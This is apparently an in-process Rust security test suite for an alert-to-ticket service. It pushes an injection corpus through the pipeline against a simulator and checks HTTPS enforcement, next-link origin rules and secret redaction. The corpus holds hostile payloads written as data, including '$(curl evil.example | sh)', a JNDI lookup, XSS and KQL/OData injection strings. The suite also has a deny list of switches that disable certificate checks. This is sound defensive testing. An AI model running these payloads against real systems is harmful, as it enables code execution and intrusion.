//! Security tests of issue 10 that run in-process (the binary's are in cli/tests/security_cli.rs,
//! the simulator's isolation checks in sim/tests/isolation.rs):
//!
//! - **Injection corpus** (quotes, backslashes, `|`, newlines, `<script>`, `{{`, `$(…)`, RTL
//!   marks, 4-byte emoji, 100 KB strings, OData and path tricks) in titles, host names, user
//!   names, file names and mail subjects, through the whole embedded pipeline against the
//!   simulator: KQL gets them only as intact string literals (the simulator lexes every
//!   binding strictly) under an untouched query body; ids that would reach a URL path or an
//!   OData filter are refused before any request; tickets and investigation reports are plain
//!   one-line-per-value text without control or bidi characters, cut on character boundaries;
//!   the monthly HTML report escapes them all and gains no element or attribute from them.
//! - **Transport**: every configuration entry point refuses anything but `https://`, the Graph
//!   nextLink is followed only on our Graph origin (a scheme downgrade included), the HTTP
//!   client refuses plain-http URLs outright, a client that does not trust the simulator's CA
//!   cannot talk to it (verification is on), and no source file turns verification off.
//! - **Secrets**: no credential type shows its secret in `{:?}` (what a panic or a log line
//!   would print).

mod common;

use std::sync::Arc;
use std::time::Duration;

use chrono::Utc;
use serde_json::{json, Value};

use common::*;
use shared::adapters::graph::AzureAppCredential;
use shared::adapters::http::HttpSettings;
use shared::domain::incident::clean_line;
use shared::domain::kql::{parse_string_literal, string_literal};
use shared::ports::Store;

// =============================================================================================
// The corpus
// =============================================================================================

/// 100 KB of text whose character boundaries never fall on byte multiples of 2 or 3.
fn big() -> String {
    let unit = "あ🦀b\u{202e}é"; // 3 + 4 + 1 + 3 + 2 bytes
    unit.repeat(100 * 1024 / unit.len() + 1)
}

/// 199 ASCII characters then 4-byte emoji: a subject cut at 200 characters lands exactly on
/// the first emoji's boundary; one cut by bytes would land inside it.
fn boundary() -> String {
    format!("{}{}", "x".repeat(199), "🦀".repeat(50))
}

fn corpus() -> Vec<String> {
    let mut v: Vec<String> = [
        "it's a \"quoted\" 'title'",
        "C:\\Users\\taro\\evil\\",
        "name\\\" | take 100000 //",
        "x\"; let WindowStart = datetime(2000-01-01); DeviceEvents //",
        "a | where 1==1 | project *",
        "line1\nDeviceEvents | where true\r\nline3",
        "<script>alert(document.domain)</script>",
        "<img src=x onerror=alert(1)>\"><svg onload=alert(2)>",
        "{{7*7}} ${jndi:ldap://evil.example/a} <%= 7*7 %>",
        "$(curl evil.example | sh) `id`",
        "\u{202e}gpj.exe \u{200f}\u{2067}isolate\u{2069}\u{200e}",
        "🦀🔥👩‍💻 𠮷野家 🇯🇵",
        "' or 1 eq 1 or '' eq '",
        "../../machines?$top=999&$filter=x#frag",
        "tab\there\u{0}nul\u{1b}[2Jesc\u{7f}del\u{85}nel",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    v.push(boundary());
    v.push(big());
    v
}

/// Control characters (but the line break) and bidi marks never reach customer text; nor does
/// U+FFFD, which is what a cut through a multi-byte character would leave.
fn unsafe_in_text(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{fffd}')
}

fn assert_plain_text(what: &str, s: &str) {
    if let Some((i, c)) = s.char_indices().find(|(_, c)| unsafe_in_text(*c)) {
        panic!(
            "{what}: U+{:04X} at byte {i}: …{}…",
            c as u32,
            s[i.saturating_sub(80)..]
                .chars()
                .take(160)
                .collect::<String>()
        );
    }
}

/// What a value becomes inside a KQL literal: control characters other than newline and tab
/// are U+FFFD (see `kql::string_literal`); everything else is kept.
fn kql_value(v: &str) -> String {
    v.chars()
        .map(|c| {
            if c.is_control() && c != '\n' && c != '\t' {
                '\u{FFFD}'
            } else {
                c
            }
        })
        .collect()
}

// =============================================================================================
// Pure functions
// =============================================================================================

#[test]
fn kql_literals_hold_every_corpus_value_intact() {
    for v in corpus() {
        let lit = string_literal(&v);
        // One line: a newline in the value cannot start a new statement.
        assert!(!lit.contains('\n') && !lit.contains('\r'), "{v:?}");
        let line = format!("{lit}; DeviceEvents");
        let (back, tail) = parse_string_literal(&line).unwrap();
        assert_eq!(back, kql_value(&v), "{v:?}");
        assert_eq!(tail, "; DeviceEvents", "{v:?}: the literal ended early");
    }
}

#[test]
fn one_line_text_is_cut_on_character_boundaries() {
    for v in corpus() {
        for max in [1, 2, 3, 50, 199, 200, 201, 500] {
            let out = clean_line(&v, max);
            assert_plain_text(&format!("clean_line({max})"), &out);
            assert!(!out.contains('\n'));
            assert!(out.chars().count() <= max, "{max}: {out:?}");
            // What is kept is the start of the cleaned value, whole characters only.
            let full = clean_line(&v, usize::MAX);
            let kept = out.strip_suffix('…').unwrap_or(&out);
            assert!(full.starts_with(kept), "{max}: {out:?} is not a prefix");
        }
    }
    // The boundary case: 199 characters and the ellipsis, never a broken emoji.
    let s =
        shared::domain::incident::subject(shared::domain::severity::Severity::High, &boundary());
    assert!(s.ends_with(&format!("{}…", "x".repeat(199))), "{s}");
}

// =============================================================================================
// The whole pipeline
// =============================================================================================

const TENANT: &str = "tenant-a";
const GOOD_DEVICE: &str = "d0d0d0d0d0d0d0d0d0d0d0d0d0d0d0d0d0d0d0d0";
/// Device ids that would change a URL path or an OData filter if pasted into them.
const HOSTILE_DEVICE_IDS: [&str; 4] = [
    "x' or machineId ne 'y",
    "../../machines",
    "a/b?c=d#e",
    "d1 isolate",
];

fn tenant_toml() -> String {
    format!(
        r#"id = "{TENANT}"
name = "テスト顧客 <b>&amp;</b> \"株\""
azure_tenant_id = "{AZ_A}"
products = ["mde", "mdo"]

[contacts]
to = ["soc@tenant-a.example"]

[mde]
device_groups = ["*"]
incident_min_severity = "medium"

[[mdo.policies]]
name = "Hostile mail"
id = "pol-hostile"
category = "threat_management"
level = "incident"

[response]
hours = "always"
max_isolations_per_hour = 1000

[response.mde]
isolate = "auto"
scan = "auto"
"#
    )
}

fn guid(n: usize) -> String {
    format!("{n:08x}-0000-4000-8000-{n:012x}")
}

fn alerts(now: chrono::DateTime<Utc>) -> Vec<Value> {
    let at = (now - chrono::Duration::minutes(30)).to_rfc3339();
    let mut out = Vec::new();
    for (i, s) in corpus().into_iter().enumerate() {
        out.push(json!({"id": format!("da-inj-{i}"), "incidentId": format!("{}", 100 + i),
            "lastUpdateDateTime": at, "createdDateTime": at, "tenantId": AZ_A,
            "serviceSource": MDE, "severity": "high", "status": "new", "title": s, "category": s,
            "description": s,
            "evidence": [
                {"@odata.type": "#microsoft.graph.security.deviceEvidence", "mdeDeviceId": GOOD_DEVICE,
                 "deviceDnsName": s, "rbacGroupName": s, "osPlatform": "Windows11"},
                {"@odata.type": "#microsoft.graph.security.userEvidence",
                 "userAccount": {"accountName": s, "displayName": s, "userPrincipalName": s,
                                 "azureAdUserId": guid(i)}},
                {"@odata.type": "#microsoft.graph.security.fileEvidence",
                 "fileDetails": {"fileName": s, "filePath": s, "sha256": "ab".repeat(32)}},
                {"@odata.type": "#microsoft.graph.security.processEvidence",
                 "imageFile": {"fileName": s}},
                {"@odata.type": "#microsoft.graph.security.urlEvidence", "url": format!("http://evil.example/{s}")}]}));
        out.push(
            json!({"id": format!("fa-inj-{i}"), "incidentId": format!("{}", 300 + i),
            "lastUpdateDateTime": at, "createdDateTime": at, "tenantId": AZ_A,
            "serviceSource": MDO, "severity": "high", "status": "new", "title": s,
            "alertPolicyId": "pol-hostile",
            "evidence": [
                {"@odata.type": "#microsoft.graph.security.analyzedMessageEvidence", "subject": s,
                 "networkMessageId": s, "recipientEmailAddress": s, "deliveryAction": "Delivered"},
                {"@odata.type": "#microsoft.graph.security.mailboxEvidence", "displayName": s,
                 "primaryAddress": s, "upn": s}]}),
        );
    }
    for (i, d) in HOSTILE_DEVICE_IDS.iter().enumerate() {
        out.push(
            json!({"id": format!("da-dev-{i}"), "incidentId": format!("{}", 500 + i),
            "lastUpdateDateTime": at, "createdDateTime": at, "tenantId": AZ_A,
            "serviceSource": MDE, "severity": "high", "status": "new", "title": "hostile device id",
            "evidence": [{"@odata.type": "#microsoft.graph.security.deviceEvidence",
                          "mdeDeviceId": d, "deviceDnsName": "pc-1", "rbacGroupName": "PC"}]}),
        );
    }
    out
}

/// Tags an injected value would add: any element that runs code, loads something or links.
const FORBIDDEN_TAGS: [&str; 12] = [
    "script",
    "img",
    "iframe",
    "object",
    "embed",
    "link",
    "a",
    "form",
    "input",
    "base",
    "image",
    "foreignobject",
];

/// Every tag of the page: no forbidden element, no event-handler attribute, no `javascript:`.
fn assert_inert_html(html: &str) {
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        let tag = &rest[i + 1..];
        let end = tag.find('>').unwrap_or(tag.len());
        let inner = tag[..end].to_ascii_lowercase();
        let name: String = inner
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
            .collect();
        assert!(
            !FORBIDDEN_TAGS.contains(&name.as_str()),
            "element <{name}> in the report: <{}>",
            &inner[..inner.len().min(200)]
        );
        for w in inner.split(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '/') {
            assert!(
                !(w.starts_with("on") && w.contains('=')),
                "event handler attribute in <{}>",
                &inner[..inner.len().min(200)]
            );
        }
        assert!(!inner.contains("javascript:"), "<{inner}>");
        rest = &tag[end..];
    }
    for c in html.chars() {
        assert!(
            (!c.is_control() || matches!(c, '\n' | '\r' | '\t'))
                && !matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{fffd}'),
            "U+{:04X} in the report",
            c as u32
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn injection_corpus_through_the_pipeline_stays_data() {
    let now = Utc::now();
    let sim = start_sim(vec![sim_tenant(AZ_A, APP_A, SECRET_A, alerts(now))]).await;
    sim.set_hunting_quota(1_000_000, 1_000_000);
    sim.add_devices(
        AZ_A,
        vec![json!({"id": GOOD_DEVICE, "computerDnsName": "pc-0.tenant-a.example",
            "osPlatform": "Windows11", "version": "23H2", "osBuild": 22631, "healthStatus": "Active",
            "rbacGroupName": "PC", "rbacGroupId": "1", "machineTags": [], "lastIpAddress": "10.0.0.1"})],
    );

    // The embedded deployment's own wiring (mss.toml + secrets file), as `mss run` uses it.
    let dir = tempfile::tempdir().unwrap();
    let ca = dir.path().join("ca.pem");
    std::fs::write(&ca, sim.ca_pem()).unwrap();
    let cfg = shared::embedded::write_for_simulator(
        dir.path(),
        &sim.authority_host(),
        &sim.graph_base(),
        &sim.graph_beta_base(),
        &sim.mde_base(),
        &sim.loganalytics_base(),
        &sim.opsramp_base(),
        OR_TENANT,
        &ca,
        (OR_CLIENT, OR_SECRET),
        &[(TENANT.into(), APP_A.into(), SECRET_A.into())],
    )
    .unwrap();
    let emb = shared::embedded::Embedded::load(&cfg).unwrap();
    let tenant = shared::domain::tenant::Tenant::from_toml(&tenant_toml()).unwrap();
    emb.store().unwrap().put_tenant(&tenant).await.unwrap();
    let (mut deps, _) = emb.deps().await.unwrap();
    // No budget limit: every query of every report runs, so every value is bound somewhere.
    let inv = deps.investigate.clone().unwrap();
    deps.investigate = Some(Arc::new(shared::steps::investigate::InvestigateDeps {
        hunting: inv.hunting.clone(),
        users: inv.users.clone(),
        budget: shared::steps::investigate::HuntBudget {
            per_minute: 1_000_000,
            per_hour: 1_000_000,
            ..inv.budget.clone()
        },
        user_cache: inv.user_cache,
        related_cap: inv.related_cap,
        related_days: inv.related_days,
    }));

    for r in shared::steps::fetch::run_all(&deps).await.unwrap() {
        r.map_err(|e| format!("{e:?}")).unwrap();
    }
    let stats = shared::runner::drain(&deps).await.unwrap();
    let n = corpus().len();

    // ---- tickets: every incident, plain text, cut on character boundaries
    let tickets = sim.tickets();
    assert_eq!(tickets.len(), 2 * n + HOSTILE_DEVICE_IDS.len(), "{stats:?}");
    for t in &tickets {
        assert_plain_text(&format!("{} subject", t.id), &t.subject);
        assert!(!t.subject.contains('\n'), "{}", t.subject);
        assert!(
            t.subject.chars().count() <= 220,
            "{} characters",
            t.subject.chars().count()
        );
        assert_plain_text(&format!("{} description", t.id), &t.description);
        assert!(
            t.description.len() < 50_000,
            "{} bytes",
            t.description.len()
        );
        for r in &t.responses {
            assert_plain_text(&format!("{} response", t.id), &r.description);
            assert!(
                r.description.len() < 100_000,
                "{} bytes",
                r.description.len()
            );
        }
    }
    let subject_of = |needle: &str| {
        tickets
            .iter()
            .find(|t| t.subject.contains(needle))
            .map(|t| t.subject.clone())
    };
    // The 4-byte boundary: 199 characters, then the ellipsis, not half an emoji.
    let s = subject_of(&"x".repeat(150)).expect("boundary ticket");
    assert!(s.ends_with(&format!("{}…", "x".repeat(199))), "{s}");
    // The value reached the customer as text (it is data, not markup).
    assert!(subject_of("<script>alert(document.domain)</script>").is_some());
    // Every incident got its investigation report.
    assert!(
        tickets
            .iter()
            .filter(|t| t.responses.iter().any(|r| r.description.contains("調査")))
            .count()
            >= 2 * n,
        "{stats:?}"
    );

    // ---- KQL: every call parsed strictly by the simulator, values intact, body untouched
    let calls = sim.hunting_queries();
    assert!(calls.len() > n, "{} hunting calls", calls.len());
    let mut bound: std::collections::HashMap<String, Vec<String>> = Default::default();
    for c in &calls {
        assert_eq!(c.status, 200, "the simulator refused a query:\n{}", c.query);
        let mut lines = c.query.lines();
        let id = lines
            .next()
            .unwrap()
            .strip_prefix("// mss-query: ")
            .unwrap()
            .to_string();
        let mut body = Vec::new();
        for l in lines {
            if !body.is_empty() || !l.starts_with("let ") {
                body.push(l);
                continue;
            }
            let (name, rhs) = l[4..].split_once(" = ").unwrap();
            if rhs.starts_with("datetime(") {
                continue;
            }
            let (v, tail) = parse_string_literal(rhs).unwrap();
            assert_eq!(tail, ";", "{l}");
            bound.entry(name.to_string()).or_default().push(v);
        }
        let q = shared::domain::kql::pack()
            .iter()
            .find(|q| q.id == id)
            .unwrap();
        assert_eq!(body.join("\n"), q.body, "{id}: the body changed");
    }
    for v in corpus() {
        let want = kql_value(&v);
        for name in [
            "AlertDeviceName",
            "AlertUserUpn",
            "AlertMessageId",
            "AlertRecipient",
        ] {
            // User and mailbox addresses are compared (and so bound) in lower case.
            assert!(
                bound
                    .get(name)
                    .is_some_and(|vs| vs.contains(&want) || vs.contains(&want.to_lowercase())),
                "{name} never bound to {:?}",
                v.chars().take(60).collect::<String>()
            );
        }
    }

    // ---- URL paths and OData: hostile device ids and user references never sent
    for a in sim.machine_actions() {
        assert_eq!(a["machineId"], GOOD_DEVICE, "{a}");
    }
    for a in deps.store.list_actions(TENANT).await.unwrap() {
        assert!(
            a.machine_action_id.is_none() || a.target == GOOD_DEVICE,
            "{a:?}"
        );
    }
    assert!(sim.isolation_violations().is_empty());

    // ---- the monthly report: escaped, inert, no control or bidi character
    let month = shared::domain::monthly::Month::of(now - chrono::Duration::minutes(30));
    let report = shared::steps::monthly::build(
        deps.store.as_ref(),
        now,
        &shared::domain::calendar::Calendar::default(),
        TENANT,
        month,
        Some("<script>alert('comment')</script>\u{202e}"),
    )
    .await
    .unwrap();
    assert_inert_html(&report.html);
    assert!(
        report.html.contains("&lt;script&gt;"),
        "a title reached the report escaped"
    );
    assert!(report
        .html
        .contains("テスト顧客 &lt;b&gt;&amp;amp;&lt;/b&gt;"));
}

/// Ids that would reach a URL path or an OData filter are refused by the clients themselves,
/// before any request, for every corpus value that is not a plain id.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ids_bound_for_urls_and_odata_are_refused_before_any_request() {
    use shared::adapters::identity::{IdentityClient, IdentityConfig, RiskyUsers};
    use shared::adapters::mde::{DeviceActions, MdeClient, MdeConfig};
    let sim = start_sim(vec![sim_tenant(AZ_A, APP_A, SECRET_A, vec![])]).await;
    let creds = vec![cred_a()];
    let mde = MdeClient::new(
        MdeConfig {
            base: sim.mde_base(),
            authority_host: sim.authority_host(),
            http: http(&sim),
            retry: fast_retry(2),
        },
        creds.clone(),
    )
    .unwrap();
    let users = IdentityClient::new(
        IdentityConfig {
            graph_base: sim.graph_base(),
            authority_host: sim.authority_host(),
            http: http(&sim),
            retry: fast_retry(2),
            min_interval: Duration::from_millis(1),
        },
        creds,
    )
    .unwrap();
    let mut values = corpus();
    values.extend(HOSTILE_DEVICE_IDS.iter().map(|s| s.to_string()));
    for v in values {
        let short: String = v.chars().take(40).collect();
        let e = mde.device("tenant-a", &v).await.err();
        assert!(
            e.is_some_and(|e| e.to_string().contains("not a valid MDE id")),
            "{short:?}"
        );
        assert!(
            mde.isolate("tenant-a", &v, "Full", "c").await.is_err(),
            "{short:?}"
        );
        assert!(
            mde.full_scan("tenant-a", &v, "c").await.is_err(),
            "{short:?}"
        );
        assert!(mde.action("tenant-a", &v).await.is_err(), "{short:?}");
        let e = users.user("tenant-a", &v).await.err();
        assert!(
            e.is_some_and(|e| e.to_string().contains("neither an object id nor a UPN")),
            "{short:?}"
        );
        assert!(users.confirm_compromised("tenant-a", &v).await.is_err());
    }
    // Nothing reached the simulator: not even a token was asked for.
    assert_eq!(sim.machine_requests(), 0);
    assert_eq!(sim.stats().entra_tokens, 0, "{:?}", sim.stats());
}

// =============================================================================================
// Transport
// =============================================================================================

fn plain(url: &str) -> String {
    url.replacen("https://", "http://", 1)
}

fn refused<T>(what: &str, r: anyhow::Result<T>) {
    match r {
        Ok(_) => panic!("{what}: plain http accepted"),
        Err(e) => {
            let e = format!("{e:#}");
            assert!(e.contains("must use https://"), "{what}: {e}");
        }
    }
}

/// Every client constructor, for every URL it takes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_client_refuses_plain_http() {
    use shared::adapters::graph::{GraphClient, GraphConfig};
    use shared::adapters::hunting::{HuntingClient, HuntingConfig};
    use shared::adapters::identity::{IdentityClient, IdentityConfig};
    use shared::adapters::loganalytics::{LogAnalyticsClient, LogAnalyticsConfig};
    use shared::adapters::mde::{MdeClient, MdeConfig};
    use shared::adapters::mdo::MdoClient;
    use shared::adapters::opsramp::{OpsRampClient, OpsRampConfig};
    let sim = start_sim(vec![sim_tenant(AZ_A, APP_A, SECRET_A, vec![])]).await;
    let (g, a) = (sim.graph_base(), sim.authority_host());
    let c = || vec![cred_a()];
    let h = http(&sim);
    for (graph, auth) in [(plain(&g), a.clone()), (g.clone(), plain(&a))] {
        refused(
            "GraphClient",
            GraphClient::new(
                GraphConfig {
                    graph_base: graph.clone(),
                    authority_host: auth.clone(),
                    ..graph_config(&sim, 10)
                },
                c(),
            ),
        );
        refused(
            "IdentityClient",
            IdentityClient::new(
                IdentityConfig {
                    graph_base: graph.clone(),
                    authority_host: auth.clone(),
                    http: h.clone(),
                    ..Default::default()
                },
                c(),
            ),
        );
        refused(
            "HuntingClient",
            HuntingClient::new(
                HuntingConfig {
                    graph_base: graph.clone(),
                    authority_host: auth.clone(),
                    http: h.clone(),
                    ..Default::default()
                },
                c(),
            ),
        );
        let beta = graph.replace("/v1.0", "/beta");
        refused("MdoClient", MdoClient::new(&beta, &auth, &h, c()));
        let mde_base = if graph.starts_with("http://") {
            plain(&sim.mde_base())
        } else {
            sim.mde_base()
        };
        refused(
            "MdeClient",
            MdeClient::new(
                MdeConfig {
                    base: mde_base,
                    authority_host: auth.clone(),
                    http: h.clone(),
                    ..Default::default()
                },
                c(),
            ),
        );
        let la = if graph.starts_with("http://") {
            plain(&sim.loganalytics_base())
        } else {
            sim.loganalytics_base()
        };
        refused(
            "LogAnalyticsClient",
            LogAnalyticsClient::new(
                LogAnalyticsConfig {
                    base: la,
                    authority_host: auth.clone(),
                    http: h.clone(),
                    ..Default::default()
                },
                c(),
            ),
        );
    }
    let mut oc = OpsRampConfig::new(&plain(&sim.opsramp_base()), OR_TENANT);
    oc.http = h.clone();
    refused(
        "OpsRampClient",
        OpsRampClient::new(oc, opsramp_cred(OR_SECRET)),
    );
    // Not a URL, or another scheme, is no better.
    for u in [
        "graph.microsoft.com",
        "ftp://graph.microsoft.com",
        "//graph.microsoft.com",
    ] {
        assert!(
            shared::adapters::http::require_https("x", u).is_err(),
            "{u}"
        );
    }
    assert_eq!(sim.stats().entra_tokens, 0);
}

/// mss.toml: each of its six endpoints, refused at load with the key named.
#[test]
fn the_embedded_configuration_refuses_plain_http_for_every_endpoint() {
    let keys = [
        ("microsoft", "authority_host"),
        ("microsoft", "graph_base"),
        ("microsoft", "graph_beta_base"),
        ("microsoft", "mde_base"),
        ("microsoft", "loganalytics_base"),
        ("opsramp", "base_url"),
    ];
    for (section, key) in keys {
        let dir = tempfile::tempdir().unwrap();
        let ca = dir.path().join("ca.pem");
        std::fs::write(&ca, "").unwrap();
        let cfg = shared::embedded::write_for_simulator(
            dir.path(),
            "https://login.example",
            "https://graph.example/v1.0",
            "https://graph.example/beta",
            "https://mde.example/api",
            "https://la.example",
            "https://opsramp.example",
            OR_TENANT,
            &ca,
            (OR_CLIENT, OR_SECRET),
            &[],
        )
        .unwrap();
        let text = std::fs::read_to_string(&cfg).unwrap();
        // The line `key = "https://…"` inside its section becomes http.
        let mut in_section = false;
        let changed: Vec<String> = text
            .lines()
            .map(|l| {
                if l.starts_with('[') {
                    in_section = l == format!("[{section}]");
                }
                if in_section && l.starts_with(&format!("{key} = ")) {
                    l.replacen("https://", "http://", 1)
                } else {
                    l.to_string()
                }
            })
            .collect();
        assert_ne!(changed.join("\n"), text.trim_end(), "{key} not found");
        std::fs::write(&cfg, changed.join("\n")).unwrap();
        let e = shared::embedded::Embedded::load(&cfg)
            .err()
            .unwrap_or_else(|| panic!("{section}.{key}: plain http accepted"));
        let e = format!("{e:#}");
        assert!(
            e.contains(&format!("{section}.{key}")) && e.contains("must use https://"),
            "{e}"
        );
        assert!(!e.contains(OR_SECRET), "{e}");
    }
}

/// The Graph client follows `@odata.nextLink` only on its own origin: not to another host,
/// not to the same host over plain http (our token would travel in clear).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn next_links_off_our_graph_origin_are_not_followed() {
    use shared::steps::backfill::AlertWindow;
    let sim = start_sim(vec![sim_tenant(AZ_A, APP_A, SECRET_A, vec![])]).await;
    let client = graph_client(&sim, 10, vec![cred_a()]);
    let t = tenant(TENANT, AZ_A);
    let since = Utc::now() - chrono::Duration::days(1);
    let good = format!("{}/security/alerts_v2?$top=1", sim.graph_base());
    for next in [
        plain(&good),
        good.replace("127.0.0.1", "localhost"),
        "https://evil.example/v1.0/security/alerts_v2".to_string(),
        good.replacen("https://", "https://user@evil.example/x?", 1),
        good.replacen("127.0.0.1", "evil.example#127.0.0.1", 1),
    ] {
        let e = client
            .page(
                &t,
                shared::domain::alert::Product::Mde,
                since,
                None,
                Some(&next),
            )
            .await
            .err()
            .unwrap_or_else(|| panic!("{next} was followed"));
        assert!(e.to_string().contains("another host"), "{next}: {e}");
    }
    assert_eq!(sim.stats().graph_alert_requests, 0);
    assert_eq!(sim.stats().entra_tokens, 0);
    // Our own origin is followed.
    client
        .page(
            &t,
            shared::domain::alert::Product::Mde,
            since,
            None,
            Some(&good),
        )
        .await
        .unwrap();
    assert_eq!(sim.stats().graph_alert_requests, 1);
}

/// The one HTTP client of the service refuses a plain-http URL before connecting (a redirect
/// to one included), and verifies certificates: without the simulator's CA it cannot talk to
/// the simulator.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_http_client_is_https_only_and_verifies_certificates() {
    let sim = start_sim(vec![sim_tenant(AZ_A, APP_A, SECRET_A, vec![])]).await;
    let c = shared::adapters::http::build_client(&http(&sim)).unwrap();
    let e = c
        .get(plain(&sim.graph_base()))
        .send()
        .await
        .expect_err("plain http refused");
    assert!(e.is_builder() || e.to_string().contains("scheme"), "{e}");
    // The simulator's CA trusted: fine. Not trusted: the handshake fails.
    let r = c
        .get(format!("{}/security/alerts_v2", sim.graph_base()))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let untrusting = shared::adapters::http::build_client(&HttpSettings {
        extra_ca_pem: None,
        ..http(&sim)
    })
    .unwrap();
    let e = untrusting
        .get(format!("{}/security/alerts_v2", sim.graph_base()))
        .send()
        .await
        .expect_err("an untrusted certificate is refused");
    assert!(e.is_connect(), "{e:?}");
    // Every client (and the Entra credential, whose transport it is) is built on this one.
    assert_eq!(sim.stats().entra_tokens, 0);
}

/// No source file can turn certificate verification off: none of the switches that do so
/// appears anywhere in the Rust sources or the Python scripts.
#[test]
fn no_source_turns_certificate_verification_off() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    // Spelled in pieces, so this list is not itself a hit for anyone grepping the tree for
    // the switches.
    let forbidden = [
        concat!("danger_", "accept_invalid_certs"),
        concat!("danger_", "accept_invalid_hostnames"),
        "dangerous()",
        "DangerousClientConfig",
        "NoCertificateVerification",
        "impl ServerCertVerifier",
        "ServerCertVerifier for",
        "tls_danger",
        "verify=False",
        "CERT_NONE",
        "check_hostname = False",
        "--insecure",
        "NODE_TLS_REJECT_UNAUTHORIZED",
    ];
    let mut todo = vec![
        root.join("shared/src"),
        root.join("sim/src"),
        root.join("cli/src"),
        root.join("functions"),
        root.join("scripts"),
        root.join("fuzz"),
    ];
    let mut seen = 0;
    while let Some(p) = todo.pop() {
        let Ok(meta) = std::fs::metadata(&p) else {
            continue;
        };
        if meta.is_dir() {
            let name = p.file_name().unwrap_or_default().to_string_lossy();
            if name == "target" || name == "node_modules" || name.starts_with('.') {
                continue;
            }
            for e in std::fs::read_dir(&p).unwrap().flatten() {
                todo.push(e.path());
            }
            continue;
        }
        let ext = p.extension().and_then(|e| e.to_str()).unwrap_or("");
        if !["rs", "py", "sh", "js", "toml"].contains(&ext) {
            continue;
        }
        let text = std::fs::read_to_string(&p).unwrap_or_default();
        seen += 1;
        for f in forbidden {
            assert!(!text.contains(f), "{} contains {f:?}", p.display());
        }
    }
    assert!(seen > 100, "only {seen} files searched");
}

// =============================================================================================
// Secrets in Debug output (what a panic or a `{:?}` in a log line prints)
// =============================================================================================

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_credential_type_shows_its_secret_in_debug() {
    let secret = "dbg-SECRET-0123456789-abcdef";
    let cred = AzureAppCredential {
        tenant: "tenant-t".into(),
        azure_tenant_id: AZ_A.into(),
        client_id: "app".into(),
        client_secret: shared::adapters::graph::Secret::new(secret.to_string()),
    };
    let mut shown = vec![
        format!("{cred:?}"),
        format!("{:?}", opsramp_cred(secret)),
        format!(
            "{:?}",
            shared::adapters::graph::Secret::new(secret.to_string())
        ),
        format!("{:?}", sim_tenant(AZ_A, APP_A, secret, vec![])),
    ];
    let sim = start_sim(vec![sim_tenant(AZ_A, APP_A, secret, vec![])]).await;
    // The loaded embedded configuration (it holds every secret of the secrets file).
    let dir = tempfile::tempdir().unwrap();
    let ca = dir.path().join("ca.pem");
    std::fs::write(&ca, sim.ca_pem()).unwrap();
    let cfg = shared::embedded::write_for_simulator(
        dir.path(),
        &sim.authority_host(),
        &sim.graph_base(),
        &sim.graph_beta_base(),
        &sim.mde_base(),
        &sim.loganalytics_base(),
        &sim.opsramp_base(),
        OR_TENANT,
        &ca,
        (OR_CLIENT, secret),
        &[("tenant-t".into(), APP_A.into(), secret.into())],
    )
    .unwrap();
    let emb = shared::embedded::Embedded::load(&cfg).unwrap();
    shown.push(format!("{emb:?}"));
    shown.push(format!("{:?}", emb.opsramp_credential()));
    shown.push(format!(
        "{:?}",
        emb.app_credentials(&[tenant("tenant-t", AZ_A)])
    ));
    shown.push(format!("{:?}", emb.opsramp_config()));
    for s in shown {
        assert!(!s.contains(secret), "{s}");
        assert!(!s.contains("0123456789-abcdef"), "{s}");
    }
}
